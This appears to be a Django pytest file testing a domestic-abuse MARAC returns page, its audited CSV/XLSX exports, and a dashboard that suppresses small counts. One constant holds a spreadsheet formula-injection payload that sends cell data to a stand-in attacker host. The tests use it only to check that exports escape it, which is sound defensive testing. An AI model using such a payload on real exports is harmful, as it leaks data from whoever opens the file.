"""The return page, its CSV/XLSX downloads (audited, formula-safe) and the benchmark dashboard
(suppressed aggregates, never a case)."""

from __future__ import annotations

import csv
import io
from collections.abc import Callable
from datetime import UTC, date, datetime
from typing import Any

import pytest
import time_machine
from django.test import Client
from openpyxl import load_workbook

from vawg.accounts.models import OrganisationType, User
from vawg.audit.models import AuditEntry
from vawg.marac.tests.returns_fixture import REFERRED_Q2, build_return_fixture, heard_case

pytestmark = pytest.mark.django_db

TODAY = datetime(2026, 7, 15, 9, tzinfo=UTC)
PAGE = "/marac/returns/"
CSV = "/marac/returns/download/csv/"
XLSX = "/marac/returns/download/xlsx/"
DASHBOARD = "/marac/dashboard/"
HYPERLINK = '=HYPERLINK("https://evil.example/?leak="&A1,"Click")'


@pytest.fixture(autouse=True)
def _july_2026() -> Any:
    with time_machine.travel(TODAY, tick=False):
        yield


def csv_rows(response: Any) -> dict[str, str]:
    text = b"".join(response.streaming_content if response.streaming else [response.content]).decode("utf-8-sig")
    return {row[0]: row[1] for row in csv.reader(io.StringIO(text))}


def xlsx_rows(response: Any) -> dict[object, object]:
    sheet = load_workbook(io.BytesIO(response.content)).active
    assert sheet is not None
    return {row[0].value: row[1].value for row in sheet.iter_rows()}


def test_it_shows_the_last_complete_quarter_by_default(
    signed_in: Callable[[User], Client], marac_coordinator: User
) -> None:
    build_return_fixture()

    response = signed_in(marac_coordinator).get(PAGE)

    assert response.status_code == 200
    page = response.content.decode()
    assert "All areas: 1 April 2026 to 30 June 2026" in page
    figures = dict(response.context["figures"].rows())
    assert figures["Cases discussed (including repeats)"] == 6
    assert figures["Meeting dates"] == "14 May 2026, 20 May 2026, 11 June 2026"


def test_it_shows_one_area_for_a_chosen_quarter(signed_in: Callable[[User], Client], analyst: User) -> None:
    fixture = build_return_fixture()

    response = signed_in(analyst).get(PAGE, {"area": fixture.area.pk, "quarter": "2026-01-01"})

    assert response.status_code == 200
    figures = response.context["figures"]
    assert (figures.cases_discussed, figures.repeat_cases, figures.cases_per_10k_adult_women) == (2, 1, 0.8)
    assert "Fixture MARAC: 1 January 2026 to 31 March 2026" in response.content.decode()


def test_it_takes_from_and_to_dates(signed_in: Callable[[User], Client], analyst: User) -> None:
    fixture = build_return_fixture()
    dates = {"from_date_0": "1", "from_date_1": "1", "from_date_2": "2026", "to_date_0": "30"}
    dates |= {"to_date_1": "6", "to_date_2": "2026"}

    response = signed_in(analyst).get(PAGE, {"area": fixture.area.pk, "quarter": "", **dates})

    assert response.context["figures"].cases_discussed == 7


@pytest.mark.parametrize(
    ("query", "field", "message"),
    [
        (
            {"quarter": "", "from_date_0": "1", "from_date_1": "7", "from_date_2": "2026", "to_date_0": "30"}
            | {"to_date_1": "6", "to_date_2": "2026"},
            "to_date",
            "The to date must be the same as or after the from date",
        ),
        ({"quarter": ""}, "from_date", "Enter the from date, or choose a quarter"),
        (
            {"quarter": "2026-04-01", "from_date_0": "1", "from_date_1": "4", "from_date_2": "2026"},
            "quarter",
            "Choose a quarter or enter dates, not both",
        ),
        ({"quarter": "1999-01-01"}, "quarter", "Choose a quarter from the list"),
        ({"quarter": "", "from_date_0": "31", "from_date_1": "2", "from_date_2": "2026"}, "from_date", "real date"),
        (
            {"quarter": "", "from_date_0": "1", "from_date_1": "1", "from_date_2": "2026", "to_date_0": "31"}
            | {"to_date_1": "12", "to_date_2": "9999"},
            "to_date",
            "Year must be between 1900 and 2099",
        ),
    ],
)
def test_it_explains_what_is_wrong_with_the_period(
    signed_in: Callable[[User], Client], analyst: User, query: dict[str, str], field: str, message: str
) -> None:
    response = signed_in(analyst).get(PAGE, query)

    assert response.status_code == 200
    assert "figures" not in response.context
    assert any(message in error for error in response.context["form"].errors[field])
    assert "Error:" in response.content.decode()


def test_it_downloads_the_return_as_csv_and_records_it(
    signed_in: Callable[[User], Client], marac_coordinator: User
) -> None:
    fixture = build_return_fixture()

    response = signed_in(marac_coordinator).get(CSV, {"area": fixture.area.pk, "quarter": "2026-04-01"})

    assert response.status_code == 200
    assert response["Content-Disposition"] == 'attachment; filename="marac-return-2026-04-01-to-2026-06-30.csv"'
    rows = csv_rows(response)
    assert rows["MARAC area"] == "Fixture MARAC"
    assert rows["Cases discussed (including repeats)"] == "5"
    assert rows["Cases referred by: Police"] == "1"
    assert rows["Victims: aged 16 or 17"] == "2"
    assert rows["Cases per 10,000 adult women (this period)"] == "2.0"
    entry = AuditEntry.objects.get(action="marac.return.download")
    assert entry.actor_id == str(marac_coordinator.pk)
    assert entry.details == {"from": "2026-04-01", "to": "2026-06-30", "area": str(fixture.area.pk), "format": "csv"}


def test_it_escapes_formulas_in_the_csv_and_xlsx(signed_in: Callable[[User], Client], analyst: User) -> None:
    fixture = build_return_fixture()
    fixture.area.name = HYPERLINK
    fixture.area.save()
    heard_case(
        fixture.meetings["may"], org_type=OrganisationType.HOUSING, referred_on=REFERRED_Q2, agency_name=HYPERLINK
    )
    client = signed_in(analyst)
    query = {"area": fixture.area.pk, "quarter": "2026-04-01"}

    as_csv = csv_rows(client.get(CSV, query))
    as_xlsx = xlsx_rows(client.get(XLSX, query))

    assert as_csv["MARAC area"] == "'" + HYPERLINK
    assert as_xlsx["MARAC area"] == "'" + HYPERLINK
    assert as_xlsx["Cases discussed (including repeats)"] == 6
    assert as_xlsx["From"] == datetime(2026, 4, 1, tzinfo=UTC).replace(tzinfo=None)
    # The referring agency is counted by type only: its name is never in the return.
    assert as_csv["Cases referred by: Housing"] == "2"
    assert not any(HYPERLINK in str(value) and not str(value).startswith("'") for value in as_csv.values())
    assert AuditEntry.objects.filter(action="marac.return.download").count() == 2


def test_it_refuses_an_unknown_download_format(signed_in: Callable[[User], Client], analyst: User) -> None:
    assert signed_in(analyst).get("/marac/returns/download/pdf/").status_code == 404
    assert not AuditEntry.objects.filter(action="marac.return.download").exists()


def test_it_sends_a_download_with_a_bad_period_back_to_the_form(
    signed_in: Callable[[User], Client], analyst: User
) -> None:
    response = signed_in(analyst).get(CSV, {"quarter": ""})

    assert response.status_code == 302
    assert response["Location"] == "/marac/returns/?quarter="
    assert not AuditEntry.objects.filter(action="marac.return.download").exists()


def test_it_refuses_the_return_to_board_members_and_caseworkers(
    signed_in: Callable[[User], Client], board_member: User, idva_a: User
) -> None:
    for user in (board_member, idva_a):
        client = signed_in(user)
        assert client.get(PAGE).status_code == 403
        assert client.get(CSV).status_code == 403


def test_it_shows_the_dashboard_with_small_numbers_suppressed(
    signed_in: Callable[[User], Client], board_member: User
) -> None:
    fixture = build_return_fixture()

    response = signed_in(board_member).get(DASHBOARD, {"area": fixture.area.pk})

    assert response.status_code == 200
    page = response.content.decode()
    view = response.context["dashboard"]
    rate = next(chart for chart in view.charts if chart.key == "rate")
    april_to_june = next(bar for bar in rate.bars if bar.label == "April to June 2026")
    # 5 cases, but hidden too: the 12 months' 7 less these 5 would give January to March's count.
    assert (april_to_june.count_text, april_to_june.value_text) == ("suppressed", "suppressed")
    assert next(bar for bar in rate.bars if bar.label == "12 months to 30 June 2026").count_text == "7"
    january_to_march = next(bar for bar in rate.bars if bar.label == "January to March 2026")
    assert january_to_march.count_text == "fewer than 5"
    assert january_to_march.value_text == "suppressed (fewer than 5)"
    repeats = next(chart for chart in view.charts if chart.key == "repeats")
    assert next(bar for bar in repeats.bars if bar.label == "April to June 2026").value_text == (
        "suppressed (fewer than 5)"
    )
    assert "12 months to 30 June 2026" in page
    assert "<svg" in page and "<table" in page
    assert page.count("<table") == len(view.charts) + 1
    assert "<script" not in page.split("</main>")[0].split("<main")[1]
    assert " style=" not in page


def test_it_never_shows_a_case_on_the_dashboard(signed_in: Callable[[User], Client], analyst: User) -> None:
    fixture = build_return_fixture()
    references = [
        item.marac_referral.reference for meeting in fixture.meetings.values() for item in meeting.items.all()
    ]
    case_references = [
        item.marac_referral.case.reference for meeting in fixture.meetings.values() for item in meeting.items.all()
    ]

    page = signed_in(analyst).get(DASHBOARD).content.decode()

    assert references and not any(reference in page for reference in references + case_references)
    assert "/cases/" not in page
    assert "/marac/items/" not in page


def test_it_refuses_the_dashboard_to_caseworkers(signed_in: Callable[[User], Client], idva_a: User) -> None:
    assert signed_in(idva_a).get(DASHBOARD).status_code == 403


def test_it_reads_the_dashboard_in_a_fixed_number_of_queries(
    signed_in: Callable[[User], Client], analyst: User
) -> None:
    from django.db import connection
    from django.test.utils import CaptureQueriesContext

    fixture = build_return_fixture()
    client = signed_in(analyst)
    with CaptureQueriesContext(connection) as few:
        client.get(DASHBOARD)
    for _ in range(10):
        heard_case(fixture.meetings["jun"], org_type=OrganisationType.NHS, referred_on=REFERRED_Q2, perpetrator={})

    with CaptureQueriesContext(connection) as more:
        assert client.get(DASHBOARD).status_code == 200

    assert len(more) == len(few)


def test_it_gives_dates_in_uk_format(signed_in: Callable[[User], Client], analyst: User) -> None:
    build_return_fixture()

    page = signed_in(analyst).get(PAGE).content.decode()

    assert "1 April 2026" in page
    assert date(2026, 4, 1).isoformat() not in page.split("<table")[1]
